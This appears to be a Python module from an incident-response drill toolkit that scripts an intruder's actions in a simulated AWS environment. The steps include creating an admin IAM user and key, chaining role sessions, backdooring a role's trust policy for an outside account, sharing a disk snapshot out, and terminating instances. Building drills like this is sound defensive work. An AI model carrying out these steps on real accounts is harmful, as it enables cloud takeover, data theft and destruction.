"""What the intruder does in AWS."""

import json
from collections.abc import Mapping
from dataclasses import replace
from datetime import timedelta
from typing import Final

from irkit.drill.adversary.hands import Hands
from irkit.drill.adversary.holdings import Got, Item
from irkit.model.access import CredentialKind
from irkit.world.aws.moto_ec2 import IMAGE
from irkit.world.browser import RefusedError
from irkit.world.fixtures.build_okta import SESSION

_EVERYTHING: Final = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)
_CHAINED: Final = timedelta(hours=1)
_TAKEN: Final = b"EntityAlreadyExists"


def federate(hands: Hands, using: Item | None, given: Mapping[str, str]) -> Got:
    """Go from the Okta dashboard into a role."""
    assert using is not None
    role, account = hands.role(given["role"])
    provider = f"arn:aws:iam::{account}:saml-provider/okta"
    key = hands.signed_in(using).enter_aws(hands.aws_app, role, provider)
    name = role.rpartition("/")[2]
    seat = hands.aws_seat(
        CredentialKind.FEDERATED_ROLE_SESSION,
        key,
        f"session of {using.login} in role {name} in {account}",
        user=using.login,
        account=account,
        lasts=SESSION,
    )
    return Got(seat=seat, login=using.login, made={"sessions": (key.id,)})


def create_key(hands: Hands, using: Item | None, given: Mapping[str, str]) -> Got:
    """Make a user with a key and every right: access that needs no Okta."""
    assert using is not None
    user = given["user"]
    try:
        hands.aws(using, "iam", "CreateUser", UserName=user)
    except RefusedError as error:
        if error.reply is None or _TAKEN not in error.reply.body:
            raise
    hands.aws(
        using,
        "iam",
        "PutUserPolicy",
        UserName=user,
        PolicyName="backup",
        PolicyDocument=_EVERYTHING,
    )
    answer = hands.aws(using, "iam", "CreateAccessKey", UserName=user)
    key = answer.key()
    account = _account(using)
    seat = hands.aws_seat(
        CredentialKind.LONG_TERM_KEY,
        key,
        f"key {key.id} of {user}",
        user=user,
        account=account,
    )
    return Got(seat=seat, made={"keys": (key.id,), "users": (user,)})


def session_token(hands: Hands, using: Item | None, given: Mapping[str, str]) -> Got:  # noqa: ARG001
    """Make a session that survives its key."""
    assert using is not None
    assert using.seat is not None
    key = hands.aws(using, "sts", "GetSessionToken").key()
    seat = hands.aws_seat(
        CredentialKind.GET_SESSION_TOKEN,
        key,
        f"GetSessionToken session of {using.seat.user}",
        user=using.seat.user,
        account=_account(using),
        lasts=SESSION,
    )
    return Got(seat=seat, made={"sessions": (key.id,)})


def assume_role(hands: Hands, using: Item | None, given: Mapping[str, str]) -> Got:
    """Go on into another role, whose sessions live on when the first one's are cut."""
    assert using is not None
    assert using.seat is not None
    role, account = hands.role(given["role"])
    name = "deploy-check"
    key = hands.aws(using, "sts", "AssumeRole", RoleArn=role, RoleSessionName=name).key()
    seat = hands.aws_seat(
        CredentialKind.CHAINED_ROLE_SESSION,
        key,
        f"session `{name}` in role {role.rpartition('/')[2]} in {account}",
        user=using.seat.user,
        account=account,
        lasts=_CHAINED,
    )
    return Got(seat=seat, made={"sessions": (key.id,)})


def backdoor_trust(hands: Hands, using: Item | None, given: Mapping[str, str]) -> Got:
    """Let the intruder's own account into a role, beside those who may enter it already."""
    assert using is not None
    role, account = hands.role(given["role"])
    name = role.rpartition("/")[2]
    outside, key = hands.outside
    trust = json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Principal": {"AWS": [f"arn:aws:iam::{outside}:root"]},
                    "Action": "sts:AssumeRole",
                }
            ],
        }
    )
    hands.aws(using, "iam", "UpdateAssumeRolePolicy", RoleName=name, PolicyDocument=trust)
    seat = hands.aws_seat(
        CredentialKind.EXTERNAL_TRUST,
        key,
        f"trust of role {name} in {account} in account {outside}",
        user="outside",
        account=account,
    )
    seat = replace(seat, id=f"trust:{account}/{name}", calls=(f"sts:AssumeRole {role}",))
    return Got(seat=seat, made={"trusts": (role,)})


def run_instance(hands: Hands, using: Item | None, given: Mapping[str, str]) -> Got:  # noqa: ARG001
    """Start a machine of the intruder's own."""
    assert using is not None
    answer = hands.aws(
        using,
        "ec2",
        "RunInstances",
        ImageId=IMAGE,
        InstanceType="c5.4xlarge",
        MinCount="1",
        MaxCount="1",
    )
    return Got(made={"machines": (answer.first("instanceId"),)})


def share_snapshot(hands: Hands, using: Item | None, given: Mapping[str, str]) -> Got:  # noqa: ARG001
    """Copy a disk out: a snapshot that the intruder's account may read."""
    assert using is not None
    volume = hands.aws(using, "ec2", "DescribeVolumes").first("volumeId")
    answer = hands.aws(using, "ec2", "CreateSnapshot", VolumeId=volume, Description="backup")
    snapshot = answer.first("snapshotId")
    shared = {
        "SnapshotId": snapshot,
        "Attribute": "createVolumePermission",
        "OperationType": "add",
        "UserId.1": hands.outside[0],
    }
    hands.aws(using, "ec2", "ModifySnapshotAttribute", **shared)
    return Got(made={"snapshots": (snapshot,)})


def terminate(hands: Hands, using: Item | None, given: Mapping[str, str]) -> Got:  # noqa: ARG001
    """Destroy a machine of the company's."""
    assert using is not None
    running = {"Filter.1.Name": "instance-state-name", "Filter.1.Value.1": "running"}
    machine = hands.aws(using, "ec2", "DescribeInstances", **running).first("instanceId")
    hands.aws(using, "ec2", "TerminateInstances", **{"InstanceId.1": machine})
    return Got(made={"destroyed": (machine,)})


def _account(using: Item) -> str:
    assert using.seat is not None
    return using.seat.account
